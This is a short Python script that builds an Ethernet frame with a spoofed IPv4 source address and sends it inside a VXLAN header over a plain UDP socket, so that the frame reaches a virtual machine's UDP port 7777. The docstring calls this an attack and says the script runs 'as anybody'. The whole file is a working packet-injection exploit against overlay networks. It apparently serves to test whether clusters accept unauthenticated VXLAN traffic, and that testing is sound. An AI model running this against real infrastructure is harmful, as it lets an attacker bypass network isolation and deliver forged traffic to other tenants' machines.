"""Runs anywhere, as anybody: send a frame in VXLAN (RFC 7348) from a plain UDP socket.

Usage: inject.py NAME NODE PORT VNI MAC ADDRESS [SOURCE_PORT]; the frame is a UDP packet for port 7777 of a VM. Standard
library only.
"""

import socket
import struct
import sys


def packet(name: bytes, mac: str, address: str) -> bytes:
    """Return an Ethernet frame with an IPv4 UDP packet, from an address outside of every cluster."""
    udp = struct.pack(">HHHH", 7, 7777, 8 + len(name), 0) + name
    header = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, bytes([198, 51, 100, 7]), socket.inet_aton(address))
    total = sum(struct.unpack(">10H", header))
    total = (total & 0xFFFF) + (total >> 16)
    checked = header[:10] + struct.pack(">H", ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF) + header[12:]
    return bytes.fromhex(mac.replace(":", "")) + bytes.fromhex("525400000099") + b"\x08\x00" + checked + udp


def main(name: str, node: str, port: str, vni: str, mac: str, address: str, source_port: str = "0") -> None:
    """Send it; a refusal by the kernel is a failure of the attack, not of this program."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as wire:
        try:
            wire.bind(("", int(source_port)))
            wire.sendto(struct.pack(">II", 0x08000000, int(vni) << 8) + packet(name.encode(), mac, address), (node, int(port)))
        except OSError as error:
            print(f"refused: {error}")


main(*sys.argv[1:])
